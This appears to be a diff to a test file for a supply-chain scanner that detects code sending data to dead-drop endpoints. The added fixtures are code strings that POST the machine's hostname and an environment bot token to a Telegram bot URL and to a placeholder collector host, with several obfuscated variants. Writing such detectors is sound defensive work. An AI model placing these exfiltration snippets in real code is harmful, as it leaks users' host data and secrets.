@@ -49,6 +49,27 @@ examine(sendsToDeadDrop, {
       weight: 'weak',
     },
     {
+      when: 'one function sends to a collector and to the bot of the environment',
+      files: {
+        'index.js': `const post = (url, body) => fetch(url, { method: 'POST', body }); post('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', require('os').hostname()); post('https://${collector}/x', require('os').hostname())`,
+      },
+      weight: 'proof',
+      says: [collector],
+    },
+    ...[
+      `require('lodash').merge(process.env, { ['TO' + 'KEN']: globalThis.specimen() })`,
+      `require('dotenv').populate(process.env, globalThis.specimen())`,
+      `const fill = (e, k) => { e[k[0]] = globalThis.specimen() }; fill(process.env, ['TO' + 'KEN'])`,
+      `const fill = e => { [e.TOKEN] = [globalThis.specimen()] }; fill(process.env)`,
+      `const { assign } = Object; const fill = e => assign(e, globalThis.specimen()); fill(process.env)`,
+    ].map(fill => ({
+      when: `code fills what it then reads: ${fill}`,
+      files: {
+        'index.js': `${fill}; fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'proof' as const,
+    })),
+    {
       when: 'one function sends to a service and to the bot of the environment',
       files: {
         'package.json': { name: 'x', bin: 'cli.js' },
